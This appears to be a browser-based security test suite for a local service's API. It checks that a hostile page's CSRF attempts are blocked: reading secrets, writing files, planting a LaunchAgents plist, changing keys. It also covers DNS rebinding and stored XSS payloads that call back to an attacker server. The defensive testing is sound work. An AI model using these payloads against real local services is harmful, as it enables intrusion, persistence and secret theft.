import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, launchBrowser } from '../helpers/browser.js';
import { closeAfterEach } from '../helpers/teardown.js';
import { startHostile, type HostileService } from './hostile-runtime.js';

/**
 * T1-T3 and T6 in a real browser (Debian's Chromium through playwright-core): a page on another
 * loopback origin that attacks the service with everything a page can send without a preflight
 * (no-cors fetch, text/plain and multipart bodies, a form, a beacon, image and script tags); the
 * same service reached under a rebound host name (`--host-resolver-rules`, which is what DNS
 * rebinding gives the page); and the diagnostics page showing a session whose title and text are
 * HTML and script. Nothing gets past the guard, nothing is read, nothing runs.
 */
const track = closeAfterEach();
let svc: HostileService;
let evil: Server;
let evilPort: number;
/** What the attacker's server saw: the page's report, and any request a payload made. */
const seen: Array<{ path: string; body: string }> = [];

function attackPage(target: string, home: string): string {
  return `<!doctype html><html><body><iframe name="sink"></iframe><script>
  (async () => {
    const T = ${JSON.stringify(target)};
    const report = {};
    try { const r = await fetch(T + '/api/secrets/env'); report.read = await r.text(); } catch (e) { report.read = 'blocked: ' + e.name; }
    try { const r = await fetch(T + '/api/secrets/env', { headers: { 'X-Requested-With': 'x' } }); report.preflighted = r.status; } catch (e) { report.preflighted = 'blocked: ' + e.name; }
    await fetch(T + '/api/files/save', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ path: ${JSON.stringify(home)} + '/pwned-fetch.txt', content: 'x' }) }).catch(() => {});
    const fd = new FormData();
    fd.append('space', ${JSON.stringify(home)} + '/Library/LaunchAgents');
    fd.append('file', new Blob(['<plist/>'], { type: 'text/xml' }), 'evil.plist');
    await fetch(T + '/api/files/upload', { method: 'POST', mode: 'no-cors', body: fd }).catch(() => {});
    navigator.sendBeacon(T + '/api/chat/prompt', new Blob([JSON.stringify({ text: 'pwned by beacon', agent_name: 'clia_code' })], { type: 'text/plain' }));
    for (const action of ['/api/files/save', '/app/restart', '/api/config/providers/prova/key']) {
      const form = document.createElement('form');
      form.method = 'POST'; form.action = T + action; form.enctype = 'text/plain'; form.target = 'sink';
      const input = document.createElement('input');
      input.name = '{"path":"' + ${JSON.stringify(home)} + '/pwned-form.txt","content":"x","key":"k","x":"';
      input.value = '"}';
      form.append(input); document.body.append(form); form.submit();
      await new Promise((r) => setTimeout(r, 200));
    }
    for (const p of ['/api/secrets/env', '/api/sessions', '/health']) {
      await new Promise((r) => { const img = new Image(); img.onload = img.onerror = r; img.src = T + p; });
      await new Promise((r) => { const s = document.createElement('script'); s.onload = s.onerror = r; s.src = T + p; document.body.append(s); });
    }
    await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
  })();
  </script></body></html>`;
}

beforeAll(async () => {
  svc = await startHostile();
  evil = createServer((req: IncomingMessage, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c));
    req.on('end', () => {
      seen.push({ path: req.url ?? '', body });
      if (req.url === '/attack') {
        res.setHeader('Content-Type', 'text/html');
        res.end(attackPage(`http://127.0.0.1:${svc.port}`, svc.home));
      } else res.end('ok');
    });
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilPort = (evil.address() as { port: number }).port;
});
afterAll(async () => {
  await svc.close();
  await new Promise((r) => evil.close(r));
});

describe('a hostile page in a real browser', () => {
  it('#1 #5 #9 #10 #11 a page on another origin can neither read nor change anything', async () => {
    const browser = track(await launchBrowser());
    const { page } = await browser.page();
    await page.goto(`http://127.0.0.1:${evilPort}/attack`);
    await expect.poll(() => seen.find((s) => s.path === '/report'), { timeout: 20_000 }).toBeTruthy();
    const report = JSON.parse(seen.find((s) => s.path === '/report')!.body);
    expect(report.read).toMatch(/^blocked/);
    expect(report.preflighted).toMatch(/^blocked/);
    expect(existsSync(`${svc.home}/pwned-fetch.txt`)).toBe(false);
    expect(existsSync(`${svc.home}/pwned-form.txt`)).toBe(false);
    expect(existsSync(`${svc.home}/Library`)).toBe(false);
    expect(existsSync(`${svc.home}/uploads`) ? await readdir(`${svc.home}/uploads`) : []).toEqual([]);
    expect(svc.runs()).toEqual([]);
    // Every request the page made reached the guard and was refused there.
    const served = svc.logs.map((l) => JSON.parse(l)).filter((l) => l.msg === 'request' && l.path !== '/' && l.method !== 'OPTIONS');
    expect(served.length).toBeGreaterThanOrEqual(10);
    for (const r of served) expect([403, 415], `${r.method} ${r.path}`).toContain(r.status);
    expect((await svc.get('/api/secrets/env/keys')).json().keys).toEqual([]);
  }, 60_000);

  it('#2 the service under a rebound name (DNS rebinding): the page is same-origin, and still gets nothing', async () => {
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', `--host-resolver-rules=MAP rebind.test 127.0.0.1`] });
    track({ close: () => browser.close() });
    const page = await browser.newPage();
    const first = await page.goto(`http://rebind.test:${svc.port}/diagnostics`);
    expect(first?.status()).toBe(403);
    const read = await page.evaluate(async () => {
      const r = await fetch('/api/secrets/env');
      return { status: r.status, body: await r.text() };
    });
    expect(read.status).toBe(403);
    expect(read.body).toBe('{"detail":"Forbidden host"}');
  }, 60_000);

  it('#6 T6: the diagnostics page shows a session whose title and text are HTML and script as text, and runs none of it', async () => {
    const payload = `<img src=x onerror="fetch('http://127.0.0.1:${evilPort}/pwned-img')"><script>fetch('http://127.0.0.1:${evilPort}/pwned-script')</script>`;
    const { sse } = await svc.open(payload);
    await sse.ended;
    const browser = track(await launchBrowser());
    const { page, problems } = await browser.page();
    let dialogs = 0;
    page.on('dialog', (d) => {
      dialogs++;
      void d.dismiss();
    });
    await page.goto(`${svc.url}/diagnostics`);
    await page.waitForSelector('body[data-loaded="true"]');
    await expect.poll(() => page.locator('#sessions [data-session] .title').first().textContent(), { timeout: 15_000 }).toBe(payload);
    await page.locator('#sessions [data-session]').first().click();
    await page.waitForSelector('#messages .msg.user');
    expect(await page.textContent('#messages .msg.user')).toContain(payload);
    expect(await page.locator('#messages img, #sessions img, #messages script').count()).toBe(0);
    await page.waitForTimeout(500);
    expect(seen.filter((s) => s.path.startsWith('/pwned'))).toEqual([]);
    expect(dialogs).toBe(0);
    expect(problems.filter((p) => /pwned/.test(p))).toEqual([]);
  }, 60_000);
});
